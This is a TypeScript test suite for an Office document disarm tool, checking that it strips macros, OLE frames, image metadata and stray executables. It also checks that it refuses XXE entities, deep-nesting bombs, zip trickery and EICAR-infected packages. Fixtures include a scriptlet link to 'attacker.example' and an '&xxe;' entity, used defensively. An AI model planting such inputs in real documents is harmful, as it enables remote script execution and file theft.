      expect(text).not.toMatch(/Macro1|name="Local"/);
    });

    it('refuses a workbook of macro sheets only as invalid_file', async () => {
      const input = await build('<sheet name="Macro1" sheetId="1" r:id="rIdM"/>', '', false);
      expect(await disarm({ bytes: input, fileName: 'a.xlsm' })).toMatchObject({
        status: 'rejected',
        reason: 'invalid_file',
      });
    });
  });

  it('removes OLE frames and macro actions from PowerPoint, keeping the slide text', async () => {
    const input = await buildPresentation('ppsx', {
      externalOle: 'script:http://attacker.example/x.sct',
      macroAction: true,
      texts: ['Slide one', 'Slide two'],
    });
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.ppsx' }));
    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1, 'vba-macro': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/oleObj|graphicFrame|ppaction|attacker/);
    expect(text).toContain('Slide one');
    expect(text).toContain('Slide two');
  });

  describe("PowerPoint OLE objects shown by the object's own preview picture", () => {
    const preview = async (): Promise<Buffer> =>
      buildPresentation('pptx', {
        texts: ['Slide one'],
        oleObject: true,
        olePreview: { kind: 'emf', bytes: buildEmf({ emfPlus: 'dual' }) },
      });
    const slideOf = async (bytes: Uint8Array): Promise<string> =>
      String((await unzippedParts(bytes)).get('ppt/slides/slide1.xml'));
    /** The fixture with its slide edited. */
    const edited = async (edit: (slide: string) => string): Promise<Buffer> => {
      const parts = await unzippedParts(await preview());
      parts.set('ppt/slides/slide1.xml', edit(String(parts.get('ppt/slides/slide1.xml'))));
      return rezipped(parts);
    };

    it('keeps the picture where the frame stood, with its id and name; the object goes', async () => {
      const outcome = cleaned(await disarm({ bytes: await preview(), fileName: 'a.pptx' }));
      // The object, and the EMF+ comments of its picture.
      expect(findingsOf(outcome)).toEqual({ 'embedded-object': 1, 'hidden-data': 1 });
      const parts = await unzippedParts(outcome.bytes);
      expect([...parts.keys()].filter((name) => /embeddings|media/.test(name))).toEqual([
        'ppt/media/image1.emf',
      ]);
      expect(String(parts.get('ppt/slides/_rels/slide1.xml.rels'))).not.toContain('oleObject');
      const slide = String(parts.get('ppt/slides/slide1.xml'));
      expect(slide).not.toMatch(/oleObj|graphicFrame|AlternateContent|mc:Choice|p:embed|id="0"/);
      expect(slide).toContain(
        '<p:pic xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><p:nvPicPr><p:cNvPr id="4" name="Object 3"/>',
      );
      expect(slide).toContain(
        '<a:blip r:embed="rIdOlePreview"/><a:srcRect/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr bwMode="auto"><a:xfrm><a:off x="1524000" y="1397000"/>',
      );
    });

    it('carries the namespaces declared on the elements it leaves out onto the picture', async () => {
      const input = await edited((slide) =>
        slide
          .replace(
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">',
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main">',
          )
          .replace(
            '<a14:hiddenFill xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main">',
            '<a14:hiddenFill>',
          ),
      );
      const slide = await slideOf(
        cleaned(await disarm({ bytes: input, fileName: 'a.pptx' })).bytes,
      );
      expect(slide).toContain(
        '<p:pic xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:a14="http://schemas.microsoft.com/office/drawing/2010/main">',
      );
      expect(slide).toContain('<a14:hiddenFill>');
    });

    it.each([
      [
        'a picture without its non-visual properties',
        (slide: string) => slide.replace('<p:cNvPr id="0" name="Picture 3"/>', ''),
      ],
      [
        'an ActiveX control beside the object',
        (slide: string) =>
          slide.replace('<p:embed/><p:pic>', '<p:embed/><p:control r:id="x"/><p:pic>'),
      ],
      [
        'a frame nested inside it, holding the object',
        (slide: string) =>
          slide
            .replace('<p:graphicFrame>', '<p:graphicFrame><p:graphicFrame>')
            .replace('</p:graphicFrame>', '</p:graphicFrame></p:graphicFrame>'),
      ],
      [
        'a picture outside the object',
        (slide: string) =>
          slide
            .replace(/<p:pic>.*<\/p:pic>/, '')
            .replace('</mc:AlternateContent>', '</mc:AlternateContent><p:pic/>'),
      ],
    ])('drops the frame whole for %s', async (_label, edit) => {
      const slide = await slideOf(
        cleaned(await disarm({ bytes: await edited(edit), fileName: 'a.pptx' })).bytes,
      );
      expect(slide).not.toMatch(/graphicFrame|oleObj|p:pic|rIdOlePreview/);
      expect(slide).toContain('Slide one');
    });
  });

  describe('parts labelled only as generic XML, as some producers write them', () => {
    const styleSheet = `<styleSheet xmlns="${SML_NS}"><numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="164" applyNumberFormat="1"/></cellXfs></styleSheet>`;
    /** A workbook whose styles part has no Override: `[Content_Types].xml` gives it the `.xml` Default. */
    const unlabelled = async (): Promise<Buffer> => {
      const built = await workbookOf(
        [
          {
            data: `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1" s="1"><v>45000</v></c></row></sheetData></worksheet>`,
          },
        ],
        [{ name: 'xl/styles.xml', contentType: 'application/xml', data: styleSheet }],
      );
      const parts = await unzippedParts(built);
      // The workbook's relationships gain the styles part (workbookOf lists sheets only).
      const rels = String(parts.get('xl/_rels/workbook.xml.rels'));
      parts.set(
        'xl/_rels/workbook.xml.rels',
        rels.replace(
          '</Relationships>',
          `<Relationship Id="rIdStyles" Type="${RELATIONSHIP_TYPES.styles}" Target="styles.xml"/></Relationships>`,
        ),
      );
      parts.set(
        '[Content_Types].xml',
        String(parts.get('[Content_Types].xml')).replace(
          '<Override PartName="/xl/styles.xml" ContentType="application/xml"/>',
          '',
        ),
      );
      return rezipped(parts);
    };

    it('keeps them with the type their relationship implies, named in the rebuilt package', async () => {
      const input = await unlabelled();
      expect(String((await unzippedParts(input)).get('[Content_Types].xml'))).not.toContain(
        'styles',
      );
      const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
      expect(outcome.findings).toEqual([]);
      const parts = await unzippedParts(outcome.bytes);
      expect(String(parts.get('[Content_Types].xml'))).toContain(
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>',
      );
      expect(String(parts.get('xl/styles.xml'))).toContain('formatCode="yyyy-mm-dd"');
    });

    it("implies a type only from one XML target, or one in the source part's vocabulary", () => {
      const SML = 'application/vnd.openxmlformats-officedocument.spreadsheetml.';
      const WML = 'application/vnd.openxmlformats-officedocument.wordprocessingml.';
      const styles = RELATIONSHIP_TYPES.styles;
      expect(impliedContentType(styles, 'application/xml', OOXML_MAIN_TYPES.xlsx)).toBe(
        `${SML}styles+xml`,
      );
      expect(impliedContentType(styles, 'text/xml', OOXML_MAIN_TYPES.xlsm)).toBe(
        `${SML}styles+xml`,
      );
      expect(impliedContentType(styles, 'application/xml', OOXML_MAIN_TYPES.docm)).toBe(
        `${WML}styles+xml`,
      );
      expect(impliedContentType(RELATIONSHIP_TYPES.theme, 'application/xml', '')).toBe(
        'application/vnd.openxmlformats-officedocument.theme+xml',
      );
      // No vocabulary to choose by, a label that is not generic, a relationship not allowed.
      expect(impliedContentType(styles, 'application/xml', '')).toBeUndefined();
      expect(
        impliedContentType(styles, 'application/vnd.ms-excel.styles', OOXML_MAIN_TYPES.xlsm),
      ).toBeUndefined();
      expect(
        impliedContentType(RELATIONSHIP_TYPES.vbaProject, 'application/xml', OOXML_MAIN_TYPES.docm),
      ).toBeUndefined();
      expect(impliedContentType(RELATIONSHIP_TYPES.image, 'application/xml', '')).toBeUndefined();
    });
  });

  it('rebuilds images through the image handler, metadata removed', async () => {
    const png = await buildImage('png', {
      width: 32,
      height: 32,
      exif: { Artist: 'Secret Agent' },
    });
    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
      const input = await buildOfficeDocument(extension, { image: png });
      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
      expect(findingsOf(outcome)).toEqual({ 'image-metadata': 1 });
      const { names, text } = await unzipped(outcome.bytes);
      expect(names.some((name) => name.endsWith('media/image1.png')) || extension !== 'docx').toBe(
        true,
      );
      expect(text).not.toContain('Secret Agent');
    }
  });

  it('rebuilds many images side by side, drops a refused one with its drawing, and stays deterministic', async () => {
    const photo = (seed: number): Promise<Buffer> =>
      buildImage('png', { width: 64 + seed, height: 48, exif: { Artist: `Agent ${seed}` } });
    // The third "image" is not a PNG at all: the engine refuses it, so it is dropped.
    const images = [await photo(1), await photo(2), Buffer.from('not a png'), await photo(4)];
    const input = await buildWordDocument('docx', { texts: ['Caption'], images });
    const first = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    const second = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(Buffer.from(second.bytes).equals(Buffer.from(first.bytes))).toBe(true);
    expect(findingsOf(first)).toEqual({ 'image-metadata': 3, 'hidden-data': 1 });
    const { names, text } = await unzipped(first.bytes);
    expect(names.filter((name) => name.startsWith('word/media/')).sort()).toEqual([
      'word/media/image1.png',
      'word/media/image2.png',
      'word/media/image4.png',
    ]);
    expect(text).not.toMatch(/Agent|rIdImg3"/);
    expect(text).toMatch(/rIdImg4"/);
    expect(text).toContain('Caption');
  });

  it('refuses a long part that breaks near its end, after its start was already written', async () => {
    const paragraphs = '<w:p><w:r><w:t>Line of text</w:t></w:r></w:p>'.repeat(60_000);
    const document = (tail: string): Promise<Buffer> =>
      wordPackage(
        `<w:document xmlns:w="${WML_NS}"><w:body>${paragraphs}${tail}</w:body></w:document>`,
      );
    // 2.8 MB of good XML, then an unclosed element: the rewrite has handed on chunks by then.
    const broken = await disarm({ bytes: await document('<w:p>'), fileName: 'a.docx' });
    expect(broken).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    expect(broken.status === 'rejected' && broken.detail).toMatch(
      /document\.xml is not well-formed/,
    );
    // An entity reference nothing declares, at the very end.
    const entity = await disarm({ bytes: await document('<w:p>&xxe;</w:p>'), fileName: 'a.docx' });
    expect(entity).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    // The same document whole is rebuilt.
    cleaned(await disarm({ bytes: await document(''), fileName: 'a.docx' }));
  });

  it('refuses a part read strictly: XML 1.1, a padded namespace name, a local name that is none', async () => {
    const body = '<w:body><w:p><w:r><w:t>text</w:t></w:r></w:p></w:body>';
    for (const [part, reason] of [
      [
        `<?xml version="1.1" encoding="UTF-8"?><w:document xmlns:w="${WML_NS}">${body}</w:document>`,
        /document\.xml is not well-formed XML: malformed XML declaration/,
      ],
      [
        `<w:document xmlns:w=" ${WML_NS}">${body}</w:document>`,
        /document\.xml is not well-formed XML: the namespace name of w has white space at its ends/,
      ],
      [
        `<w:document xmlns:w="${WML_NS}">${body}<w:-x/></w:document>`,
        /document\.xml is not well-formed XML: malformed start tag: no name after the prefix/,
      ],
    ] as const) {
      const outcome = await disarm({ bytes: await wordPackage(part), fileName: 'a.docx' });
      expect(outcome).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
      expect(outcome.status === 'rejected' && outcome.detail).toMatch(reason);
    }
  });

  it('refuses a part of a million nested elements at once, not after its time budget', async () => {
    const depth = 1_000_000;
    const part = `<w:document xmlns:w="${WML_NS}"><w:body>${'<w:p>'.repeat(depth)}${'</w:p>'.repeat(depth)}</w:body></w:document>`;
    const outcome = await disarm({ bytes: await wordPackage(part), fileName: 'a.docx' });
    expect(outcome).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    expect(outcome.status === 'rejected' && outcome.detail).toMatch(
      /document\.xml is not well-formed XML: elements nested deeper than 256 levels/,
    );
  });

  it('runs out of time inside a long part with ERR_TIMEOUT, not after it', async () => {
    const input = await buildWordDocument('docx', {
      texts: Array.from({ length: 100_000 }, (_, i) => `paragraph ${i} of a long document`),
    });
    let started = performance.now();
    cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    const whole = performance.now() - started;
    started = performance.now();
    await expect(
      disarm(
        { bytes: input, fileName: 'a.docx' },
        { limits: { timeoutMs: Math.ceil(whole / 10) } },
      ),
    ).rejects.toSatisfy((error) => isDisarmError(error, 'ERR_TIMEOUT'));
    // Checked between slices of the part, so the call ends long before the rewrite would.
    expect(performance.now() - started).toBeLessThan(whole / 3);
  });

  it('reads a package with bytes after its end, as Office does, and leaves them out', async () => {
    // As files fetched from the web come: a newline appended after the end record (yauzl holds
    // the comment length to the rest of the file; Info-ZIP, Office and LibreOffice read on).
    const docx = await buildWordDocument('docx', { texts: ['Quarterly numbers'] });
    for (const tail of ['\n', 'PK\u0005\u0006 not an end record', 'x'.repeat(60_000)]) {
      const outcome = cleaned(
        await disarm({ bytes: Buffer.concat([docx, Buffer.from(tail)]), fileName: 'a.docx' }),
      );
      expect(findingsOf(outcome)).toEqual({ 'trailing-data': 1 });
      const { text } = await unzipped(outcome.bytes);
      expect(text).toContain('Quarterly numbers');
      expect(Buffer.from(outcome.bytes).subarray(-22).readUInt32LE(0)).toBe(0x06054b50);
    }
    // The end record is looked for in the last 64 KiB, as zip readers do: past that the file
    // does not read as a zip.
    const far = await disarm({
      bytes: Buffer.concat([docx, Buffer.alloc(100_000)]),
      fileName: 'a.docx',
    });
    expect(far).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
  });

  it('refuses a package whose Unicode Path fields show each reader another document', async () => {
    // As Apache POI's unicode-path.docx: Office and LibreOffice read the header names, Info-ZIP
    // and yauzl the extra field's, and the two swap the main part with a stray member.
    const parts = await unzippedParts(await buildWordDocument('docx', { texts: ['For Word'] }));
    const other =
      (await unzippedParts(await buildWordDocument('docx', { texts: ['For unzip'] }))).get(
        'word/document.xml',
      ) ?? '';
    const stray = 'zip-test-additional-file';
    const entries = [...parts].flatMap(([name, data]): RawZipEntry[] =>
      name === 'word/document.xml'
        ? [
            { name: Buffer.from(name), data, extra: unicodePathExtra(name, stray) },
            { name: Buffer.from(stray), data: other, extra: unicodePathExtra(stray, name) },
          ]
        : [{ name, data }],
    );
    const outcome = await disarm({ bytes: buildRawZip(entries), fileName: 'a.docx' });
    expect(outcome).toMatchObject({ status: 'rejected', reason: 'invalid_file' });
    expect(outcome.status === 'rejected' && outcome.detail).toMatch(
      /"word\/document\.xml" that its Unicode Path field renames "zip-test-additional-file"/,
    );
  });

  it('removes the folder Excel last saved the workbook in, and the alternatives left empty', async () => {
    // As Excel 2013 and later write it in every workbook they save.
    const input = await buildOpcPackage(
      [
        {
          name: 'xl/workbook.xml',
          contentType: OOXML_MAIN_TYPES.xlsx,
          data: `<workbook xmlns="${SML_NS}" xmlns:r="${R_NS}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x15" xmlns:x15="http://schemas.microsoft.com/office/spreadsheetml/2010/11/main"><fileVersion appName="xl" lastEdited="7" lowestEdited="7" rupBuild="22228"/><workbookPr defaultThemeVersion="166925"/><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="x15"><x15ac:absPath url="C:\\Users\\jsmith\\OneDrive - Contoso\\Payroll\\" xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac"/></mc:Choice></mc:AlternateContent><bookViews><workbookView xWindow="0" yWindow="0" windowWidth="28800" windowHeight="12300"/></bookViews><sheets><sheet name="S1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
          relationships: [
            { id: 'rId1', type: RELATIONSHIP_TYPES.worksheet, target: 'worksheets/sheet1.xml' },
          ],
        },
        {
          name: 'xl/worksheets/sheet1.xml',
          contentType: WORKSHEET_TYPE,
          data: `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Salaries</t></is></c></row></sheetData></worksheet>`,
        },
      ],
      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'xl/workbook.xml' }],
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'document-metadata': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).not.toMatch(/jsmith|absPath|AlternateContent|mc:Choice/);
    expect(text).toContain('<workbookPr defaultThemeVersion="166925"/><bookViews>');
    expect(text).toContain('Salaries');
  });

  it('drops unknown and unreferenced parts, counting them', async () => {
    const base = {
      name: 'word/document.xml',
      contentType: OOXML_MAIN_TYPES.docx,
      data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hi</w:t></w:r></w:p></w:body></w:document>',
      relationships: [
        { id: 'rId9', type: 'http://example.com/relationships/payload', target: 'payload.bin' },
        { id: 'rId8', type: RELATIONSHIP_TYPES.styles, target: 'missing.xml' },
      ],
    };
    const input = await buildOpcPackage(
      [
        base,
        { name: 'word/payload.bin', contentType: 'application/octet-stream', data: 'MZ payload' },
        { name: 'stray/readme.exe', contentType: 'application/x-msdownload', data: 'MZ stray' },
      ],
      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.docx' }));
    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 2 });
    const { names, text } = await unzipped(outcome.bytes);
    expect(names.sort()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/document.xml']);
    expect(text).not.toContain('MZ');
  });

  it('empties legacy VML that is not well-formed instead of refusing the workbook', async () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const input = await workbookOf(
      [
        {
          data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Kept</t></is></c></row></sheetData><legacyDrawing r:id="rId1"/></worksheet>`,
          relationships: [
            {
              id: 'rId1',
              type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/vmlDrawing',
              target: '../drawings/vmlDrawing1.vml',
            },
          ],
        },
      ],
      [
        {
          name: 'xl/drawings/vmlDrawing1.vml',
          contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
          data: '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>note<br></div></v:shape></xml>',
        },
      ],
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
    const { text } = await unzipped(outcome.bytes);
    expect(text).toContain('Kept');
    expect(text).not.toContain('<br>');
  });

  it('removes references to dropped parts, VML o:relid included, so none dangles', async () => {
    const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
    const input = await workbookOf(
      [
        {
          data: `<worksheet xmlns="${S}" xmlns:r="${R}"><sheetData/><legacyDrawing r:id="rId1"/></worksheet>`,
          relationships: [
            {
              id: 'rId1',
              type: 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/vmlDrawing',
              target: '../drawings/vmlDrawing1.vml',
            },
          ],
        },
      ],
      [
        {
          name: 'xl/drawings/vmlDrawing1.vml',
          contentType: 'application/vnd.openxmlformats-officedocument.vmlDrawing',
          data: '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>',
          relationships: [
            { id: 'rId1', type: RELATIONSHIP_TYPES.image, target: '../media/image1.emf' },
          ],
        },
        { name: 'xl/media/image1.emf', contentType: 'image/x-emf', data: 'EMF' },
      ],
    );
    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
    expect(findingsOf(outcome)).toEqual({ 'hidden-data': 1 });
    const { names, text } = await unzipped(outcome.bytes);
    expect(names).not.toContain('xl/media/image1.emf');
    expect(text).toContain('<v:imagedata o:title=""/>');
  });

  it('is deterministic and idempotent: a rebuilt document comes back byte-identical with nothing to report', async () => {
    const input = await buildWordDocument('docm', {
      vba: true,
      dde: true,
      hyperlinks: ['https://example.com/'],
    });
    const first = cleaned(await disarm({ bytes: input, fileName: 'a.docm' }));
    const again = cleaned(await disarm({ bytes: input, fileName: 'a.docm' }));
    expect(Buffer.compare(Buffer.from(first.bytes), Buffer.from(again.bytes))).toBe(0);
    const second = cleaned(await disarm({ bytes: first.bytes, fileName: 'a.docm' }));
    expect(second.findings).toEqual([]);
    expect(Buffer.compare(Buffer.from(second.bytes), Buffer.from(first.bytes))).toBe(0);
  });

  it('lets a policy reject what it would strip', async () => {
    const input = await buildWorkbook('xlsm', { vba: true });
    expect(
      await disarm({ bytes: input, fileName: 'a.xlsm' }, { policy: { 'vba-macro': 'reject' } }),
    ).toMatchObject({ status: 'rejected', reason: 'policy_violation' });
  });

  it('reads a package whose end is in ZIP64 format (APPNOTE 4.4.1.4), and refuses one split over disks', async () => {
    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
      const input = withZip64End(await buildOfficeDocument(extension, { texts: ['Kept text'] }));
      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
      expect(Buffer.from(outcome.bytes.subarray(-42, -22)).readUInt32LE(0), extension).not.toBe(
        0x07064b50,
      );
      expect((await unzipped(outcome.bytes)).text, extension).toContain('Kept text');
    }
    const split = withZip64End(await buildOfficeDocument('docx'), { zip64: { disk: 1 } });
    expect(await disarm({ bytes: split, fileName: 'a.docx' })).toMatchObject({
      status: 'rejected',
      reason: 'invalid_file',
      detail: expect.stringContaining('the archive spans several disks (this is disk 1') as unknown,
    });
  });

  it('refuses a DOCTYPE with an internal subset in any part as invalid_file (no entity is ever expanded)', async () => {
    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
      const input = await buildOfficeDocument(extension, { doctype: true });
      expect(await disarm({ bytes: input, fileName: `a.${extension}` })).toMatchObject({
        status: 'rejected',
        reason: 'invalid_file',
        detail: expect.stringContaining('declares a DOCTYPE with an internal subset') as unknown,
      });
    }
  });

  it('reads past a DOCTYPE without an internal subset, never reading what it names', async () => {
    // A DTD on disk that would declare an entity and default an attribute, were it read.
    const dtd = join(dir, 'office.dtd');
    await writeFile(
      dtd,
      '<!ENTITY secret "from the DTD"><!ATTLIST w:document w:conformance CDATA "strict">',
    );
    for (const extension of ['docx', 'xlsx', 'pptx'] as const) {
      const root = { docx: 'w:document', xlsx: 'workbook', pptx: 'p:presentation' }[extension];
      const input = await buildOfficeDocument(extension, {
        texts: ['Kept text'],
        doctype: `<!DOCTYPE ${root} SYSTEM "file://${dtd}">`,
      });
      const outcome = cleaned(await disarm({ bytes: input, fileName: `a.${extension}` }));
      const { text } = await unzipped(outcome.bytes);
      expect(text, extension).toContain('Kept text');
      expect(text, extension).not.toMatch(/DOCTYPE|conformance|from the DTD/);
    }
    const entity = await wordPackage(
      `<!DOCTYPE w:document SYSTEM "file://${dtd}"><w:document xmlns:w="${WML_NS}"><w:body><w:p><w:r><w:t>&secret;</w:t></w:r></w:p></w:body></w:document>`,
    );
    expect(await disarm({ bytes: entity, fileName: 'a.docx' })).toMatchObject({
      status: 'rejected',
      reason: 'invalid_file',
      detail: expect.stringContaining('undefined entity') as unknown,
    });
  });

  it('rejects what is not a package of the claimed kind, encrypted packages and threats inside', async () => {
    const plainZip = await buildZip([{ name: 'a.txt', data: 'hello' }]);
    expect(await disarm({ bytes: plainZip, fileName: 'a.docx' })).toMatchObject({
      reason: 'invalid_file',
    });
    const workbook = await buildWorkbook('xlsx');
    expect(await disarm({ bytes: workbook, fileName: 'a.docx' })).toMatchObject({
      reason: 'invalid_file',
    });
    const broken = await wordPackage('<w:document');
    expect(await disarm({ bytes: broken, fileName: 'a.docx' })).toMatchObject({
      reason: 'invalid_file',
    });
    expect(
      await disarm({ bytes: COMPOUND_FIXTURES.encryptedOoxml(), fileName: 'a.xlsx' }),
    ).toMatchObject({ reason: 'password_protected' });
    const infected = await buildOpcPackage(
      [
        {
          name: 'word/document.xml',
          contentType: OOXML_MAIN_TYPES.docx,
          data: '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        },
        { name: 'word/eicar.bin', contentType: 'application/octet-stream', data: EICAR_TEST_FILE },
      ],
      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
    );
    expect(await disarm({ bytes: infected, fileName: 'a.docx' })).toMatchObject({
      reason: 'threat_detected',
    });
    // Parts are read as they are rebuilt: a broken main part found first still loses to a threat
    // in a member the rebuild never reaches.
    const brokenAndInfected = await buildOpcPackage(
      [
        { name: 'word/document.xml', contentType: OOXML_MAIN_TYPES.docx, data: '<w:document' },
        { name: 'zz/eicar.bin', contentType: 'application/octet-stream', data: EICAR_TEST_FILE },
      ],
      [{ id: 'rId1', type: RELATIONSHIP_TYPES.officeDocument, target: 'word/document.xml' }],
    );
    expect(await disarm({ bytes: brokenAndInfected, fileName: 'a.docx' })).toMatchObject({
      reason: 'threat_detected',
      threatNames: ['EICAR-Test-File'],
    });
  });
});
